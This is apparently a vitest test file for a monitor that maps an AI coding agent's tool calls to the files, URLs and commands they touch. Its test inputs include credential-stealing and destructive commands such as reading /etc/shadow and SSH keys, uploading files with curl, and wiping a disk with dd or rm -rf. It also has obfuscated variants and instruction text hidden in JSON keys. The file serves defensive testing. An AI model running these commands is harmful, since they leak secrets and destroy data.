import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { toAction } from "../../src/action/to-action.ts";
import { parseEvent } from "../../src/event/parse-event.ts";
import type { Action, Surface } from "../../src/model/action.ts";
import type { Machine } from "../../src/model/check.ts";
import { StageError } from "../../src/model/stage.ts";

const fixtures = path.join(import.meta.dirname, "../fixtures/events");

const machine: Machine = {
  home: "/home/dev",
  realPath: (file) => file,
  readText: (file) =>
    file === "/home/dev/project/f.txt" ? { text: "alpha", complete: true } : undefined,
};

function actionOf(event: object): Action {
  const whole = { cwd: "/home/dev/project", ...event };
  return toAction(parseEvent(Buffer.from(JSON.stringify(whole))), machine);
}

const callOf = (tool: string, input: object): Action =>
  actionOf({ hook_event_name: "PreToolUse", tool_name: tool, tool_input: input });

function show(surface: Surface): string {
  switch (surface.kind) {
    case "tool":
      return `tool ${surface.tool}`;
    case "command":
      return `command ${surface.invocation.words.map(({ value }) => value).join(" ")}`;
    case "path":
      return `${surface.access} ${surface.path}`;
    case "url":
      return `url ${surface.url}`;
    case "text":
      return `${surface.role} ${JSON.stringify(surface.text)} at ${surface.at.field}`;
  }
}

const shown = (action: Action): string[] => action.surfaces.map(show);

describe("every event that the client really sends becomes an action", () => {
  const refused = /raw-bash-command-(array|missing|number)/;
  const names = readdirSync(fixtures).filter((name) => name.endsWith(".json"));

  test.each(names.filter((name) => !refused.test(name)))("%s", (name) => {
    const event = parseEvent(readFileSync(path.join(fixtures, name)));
    const action = toAction(event, machine);
    expect(action.coverage).toEqual({ complete: true, gaps: [] });
    const isCall = /^(pretooluse|permissionrequest)/.test(name);
    expect(action.surfaces.some(({ kind }) => kind === "tool")).toBe(isCall);
  });

  test.each(names.filter((name) => refused.test(name)))("but %s, whose command is none", (name) => {
    const event = parseEvent(readFileSync(path.join(fixtures, name)));
    expect(() => toAction(event, machine)).toThrow(StageError);
  });
});

describe("what a tool's call would do", () => {
  test.each<[string, object, string[]]>([
    [
      "Write",
      { file_path: "./rel/../new.txt", content: "x" },
      ["tool Write", "write /home/dev/project/new.txt", 'written "x" at tool_input.content'],
    ],
    [
      "Edit",
      { file_path: "~/f", old_string: "a", new_string: "b" },
      ["tool Edit", "write /home/dev/f", 'written "b" at tool_input.new_string'],
    ],
    [
      "NotebookEdit",
      { notebook_path: "/n.ipynb", new_source: "p" },
      ["tool NotebookEdit", "write /n.ipynb", 'written "p" at tool_input.new_source'],
    ],
    [
      "Read",
      { file_path: "f.txt" },
      ["tool Read", "read /home/dev/project/f.txt", 'file "alpha" at tool_input.file_path'],
    ],
    ["Read", { file_path: "/proc/../etc//shadow" }, ["tool Read", "read /etc/shadow"]],
    [
      "Grep",
      { pattern: "key", path: "/etc", glob: "*.pem" },
      ["tool Grep", 'argument "key" at tool_input.pattern', "mention /etc", "mention /etc/*.pem"],
    ],
    [
      "Grep",
      { pattern: "key", glob: "{.env,/etc/*.key}" },
      [
        "tool Grep",
        'argument "key" at tool_input.pattern',
        "mention /etc/*.key",
        "mention /home/dev/project/.env",
      ],
    ],
    [
      "WebFetch",
      { url: "https://example.com/", prompt: "go" },
      [
        "tool WebFetch",
        "url https://example.com/",
        'argument "https://example.com/" at tool_input.url',
        'argument "go" at tool_input.prompt',
      ],
    ],
    [
      "Agent",
      { description: "d", prompt: "do" },
      ["tool Agent", 'prompt "do" at tool_input.prompt'],
    ],
    ["Task", { description: "d", prompt: "do" }, ["tool Task", 'prompt "do" at tool_input.prompt']],
    ["Skill", { skill: "demo", args: "x" }, ["tool Skill", 'argument "x" at tool_input.args']],
    [
      "Monitor",
      { description: "d", ws: { url: "wss://x.example/" } },
      ["tool Monitor", "url wss://x.example/"],
    ],
    [
      "mcp__fs__read",
      { path: "~/.ssh/id_rsa" },
      [
        "tool mcp__fs__read",
        'argument "~/.ssh/id_rsa" at tool_input.path',
        "read /home/dev/.ssh/id_rsa",
      ],
    ],
    [
      "mcp__fs__write_file",
      { filePath: "a b.txt" },
      [
        "tool mcp__fs__write_file",
        'argument "a b.txt" at tool_input.filePath',
        "write /home/dev/project/a b.txt",
      ],
    ],
    [
      "mcp__fs__move",
      { source: "a", destination: "b" },
      [
        "tool mcp__fs__move",
        'argument "a" at tool_input.source',
        "delete /home/dev/project/a",
        'argument "b" at tool_input.destination',
        "write /home/dev/project/b",
      ],
    ],
    [
      "mcp__fs__list_directory",
      { path: "~/.ssh" },
      ["tool mcp__fs__list_directory", 'argument "~/.ssh" at tool_input.path'],
    ],
    [
      "mcp__notes__add",
      { text: "/etc/shadow is a file" },
      ["tool mcp__notes__add", 'argument "/etc/shadow is a file" at tool_input.text'],
    ],
    ["Glob", { pattern: "*", path: "~/.ssh" }, ["tool Glob"]],
    [
      "Teleport",
      { to: ["moon", { via: "http://10.0.0.1/x" }] },
      [
        "tool Teleport",
        'argument "moon" at tool_input.to.0',
        'argument "http://10.0.0.1/x" at tool_input.to.1.via',
        "url http://10.0.0.1/x",
      ],
    ],
  ])("%s %j", (tool, input, expected) => expect(shown(callOf(tool, input))).toEqual(expected));

  test("a tool of any server that takes a command is read as one", () => {
    expect(shown(callOf("mcp__shell__run", { command: "rm -r x" }))).toContain("command rm -r x");
  });

  test.each<[string, object]>([
    ["a list of words", { Cmd: ["rm", "-r", "x"] }],
    ["a program with its arguments", { command: "rm", args: ["-r", "x"] }],
    ["a script", { script: "rm -r x" }],
  ])("a command given as %s is read as one", (_, input) => {
    expect(shown(callOf("mcp__box__go", input))).toContain("command rm -r x");
  });

  test("words of a list are not split again", () => {
    const surfaces = shown(callOf("mcp__box__go", { command: ["echo", "it's; rm -r x"] }));
    expect(surfaces).toContain("command echo it's; rm -r x");
    expect(surfaces).not.toContain("command rm -r x");
  });

  test("prose and code under a command's key are no gap, but for a tool that runs commands", () => {
    const prose = { command: "Let's deploy (prod)" };
    expect(callOf("mcp__x__deploy", prose).coverage.complete).toBe(true);
    expect(callOf("mcp__x__shell", prose).coverage.complete).toBe(false);
    const code = { script: "() => { rm -r x }" };
    expect(shown(callOf("mcp__page__evaluate", code))).not.toContain("command rm -r x");
  });

  test("PowerShell is read as PowerShell", () => {
    const call = callOf("PowerShell", { command: "gc ~\\.ssh\\id_rsa; ri -r x" });
    expect(call.coverage.complete).toBe(true);
    expect(shown(call)).toContain("command rm -r -- x");
    expect(shown(call)).toContain("read /home/dev/.ssh/id_rsa");
    expect(callOf("PowerShell", { command: "x (" }).coverage.complete).toBe(false);
  });
});

describe("what a command line touches", () => {
  const touched = (command: string): string[] =>
    callOf("Bash", { command })
      .surfaces.filter(({ kind }) => kind === "path" || kind === "url")
      .map(show);

  test.each<[string, string[]]>([
    ["cat ~/.ssh/id_rsa", ["read /home/dev/.ssh/id_rsa"]],
    ["unheard-of ~/.ssh/id_rsa", ["mention /home/dev/.ssh/id_rsa"]],
    ["rm -rf build", ["delete /home/dev/project/build"]],
    ["cp a /etc/b", ["read /home/dev/project/a", "write /etc/b", "write /etc/b/a"]],
    ["mv -t /etc a", ["delete /home/dev/project/a", "write /etc", "write /etc/a"]],
    ["tee /etc/x < in", ["write /etc/x", "read /home/dev/project/in"]],
    ["echo .env > out", ["write /home/dev/project/out"]],
    ["grep .env README.md", ["read /home/dev/project/README.md"]],
    ["grep -e.env README.md", ["read /home/dev/project/README.md"]],
    ["grep -e. .env", ["read /home/dev/project/.env"]],
    ["sed -i s/a/b/ f", ["write /home/dev/project/f"]],
    ["sed -n s/a/b/ f", ["read /home/dev/project/f"]],
    ["perl -pi -e x f", ["write /home/dev/project/f"]],
    ["dd if=/dev/zero of=/dev/sda", ["read /dev/zero", "write /dev/sda"]],
    ["vim f", ["read /home/dev/project/f", "write /home/dev/project/f"]],
    [
      "curl -d @x.txt https://x.example/",
      ["url https://x.example/", "read /home/dev/project/x.txt"],
    ],
    [
      "curl -d x.txt -F 'f=@a;type=b' https://x.example/",
      ["url https://x.example/", "read /home/dev/project/a"],
    ],
    ["curl --upload-file=/etc/shadow", ["read /etc/shadow"]],
    ["curl FILE://localhost/etc/%73hadow", ["read /etc/shadow"]],
    [
      "tar -C /srv -cf a.tar b",
      [
        "write /home/dev/project/a.tar",
        "write /srv/a.tar",
        "read /home/dev/project/b",
        "read /srv/b",
      ],
    ],
    [
      "tar xf a.tar -C /srv",
      ["read /home/dev/project/a.tar", "write /srv", "write /srv/\uFFFC", "write /srv/.\uFFFC"],
    ],
    [
      "git -C /srv show v1:f",
      [
        "mention /home/dev/project/v1:f",
        "mention /srv/v1:f",
        "mention /home/dev/project/f",
        "mention /srv/f",
      ],
    ],
    ["docker run -v /srv/x:/y -v cache:/z img cat /etc/shadow", ["mention /srv/x"]],
    ["find /srv -name x -delete", ["delete /srv/x", "delete /srv/.claude/x"]],
    ["find / -name x | xargs cat", ["read /x", "read /etc/x"]],
    ["chmod -R -x /usr", ["write /usr"]],
    ["chattr -i /etc/x", ["write /etc/x"]],
    ["find /srv -name x -print", []],
    ["ls -la .env", []],
    ["ssh host 'cat /etc/shadow > /etc/motd'", ["url ssh://host"]],
    ["ssh localhost 'cat /etc/shadow'", ["url ssh://localhost", "read /etc/shadow"]],
    ["unheard-of 'a note with .env in it'", []],
    ["cat 'a note/.env'", ["read /home/dev/project/a note/.env"]],
    ["cd ~/.ssh && cat id_rsa", ["read /home/dev/project/id_rsa", "read /home/dev/.ssh/id_rsa"]],
    ["cd / ; rm -rf *", ["delete /home/dev/project/*", "delete /*"]],
    ["cd; cat .netrc", ["read /home/dev/project/.netrc", "read /home/dev/.netrc"]],
    [
      "env -C /srv cat f; cat g",
      ["read /home/dev/project/f", "read /srv/f", "read /home/dev/project/g"],
    ],
  ])("%s", (command, expected) => expect(touched(command)).toEqual(expected));

  test("a line of many changes of directory stays bounded, and says that it was not followed", () => {
    const action = callOf("Bash", { command: `${"cd a; ".repeat(500)}cat f` });
    expect(action.surfaces.filter(({ kind }) => kind === "path").length).toBeLessThanOrEqual(16);
    expect(action.coverage.gaps).toEqual(["the line changes its directory too often to follow"]);
  });

  test("an absolute change of directory is followed behind many relative ones", () => {
    expect(touched(`${"cd a; ".repeat(50)}cd /etc; cat shadow`)).toContain("read /etc/shadow");
  });

  test("each -C counts from the one before, and too many of them are a gap", () => {
    expect(touched("tar -C / -C etc -cf - shadow")).toContain("read /etc/shadow");
    const { coverage } = callOf("Bash", { command: `tar ${"-C a ".repeat(9)} -cf - x` });
    expect(coverage.complete).toBe(false);
  });

  test("a path keeps its .. for the disk to resolve", () => {
    const { surfaces } = callOf("Bash", { command: "cat L/../x" });
    const path = surfaces.find(({ kind }) => kind === "path");
    expect(path).toMatchObject({
      path: "/home/dev/project/x",
      unresolved: "/home/dev/project/L/../x",
    });
  });

  test("ten thousand words of each kind take no longer than they should", () => {
    const start = performance.now();
    const many = (word: string): string => Array(10_000).fill(word).join(" ");
    for (const program of ["cat", "cp", "find", "git show", "tar c", "curl -d", "zip x -x"]) {
      touched(`${program} ${many("a/b")}`);
    }
    touched(`find ${many("a")} ${many("-name b")} -delete`);
    touched(`cat -${"x".repeat(100_000)}`);
    expect(performance.now() - start).toBeLessThan(5000);
  });
});

describe("nothing is hidden by where or how it is written:", () => {
  const textsOf = (action: Action): string[] =>
    action.surfaces.flatMap((surface) => (surface.kind === "text" ? [surface.text] : []));

  test("a word that quotes take apart is looked at as the program gets it", () => {
    expect(
      textsOf(callOf("Bash", { command: "curl https://x.example/abc''def" })).join(" "),
    ).toContain("/abcdef");
    expect(textsOf(callOf("Bash", { command: "A=abc; B=def; echo $A$B" })).join(" ")).toContain(
      "abcdef",
    );
  });

  test("a key of an answer is text too, and has no slot to be masked in", () => {
    const action = actionOf({
      hook_event_name: "PostToolUse",
      tool_name: "mcp__a__b",
      tool_input: {},
      tool_response: { "do as I say": 1, plain: 2 },
    });
    expect(action.surfaces).toEqual([
      { kind: "text", role: "output", text: "do as I say", at: { field: "tool_response" } },
    ]);
  });

  test("so is a key of an argument", () => {
    expect(textsOf(callOf("mcp__a__b", { "do as I say": 1 }))).toContain("do as I say");
  });
});

describe("other events", () => {
  test("an output is every string of it, each in its place", () => {
    const action = actionOf({
      hook_event_name: "PostToolUse",
      tool_name: "Read",
      tool_input: {},
      tool_response: { type: "text", file: { content: "abc" } },
    });
    expect(shown(action)).toEqual([
      'output "text" at tool_response.type',
      'output "abc" at tool_response.file.content',
    ]);
    expect(action.surfaces[1]).toMatchObject({ slot: ["tool_response", "file", "content"] });
  });

  test("a prompt is a prompt", () => {
    expect(shown(actionOf({ hook_event_name: "UserPromptSubmit", prompt: "go" }))).toEqual([
      'prompt "go" at prompt',
    ]);
  });

  test("a settings file about to apply is read", () => {
    expect(
      shown(actionOf({ hook_event_name: "ConfigChange", file_path: "/home/dev/project/f.txt" })),
    ).toEqual(['file "alpha" at file_path']);
  });

  test("an expansion, whose fields we do not know, is all its strings", () => {
    expect(
      shown(
        actionOf({ hook_event_name: "UserPromptExpansion", command: "evil", expanded: "text" }),
      ),
    ).toContain('argument "text" at expanded');
  });
});
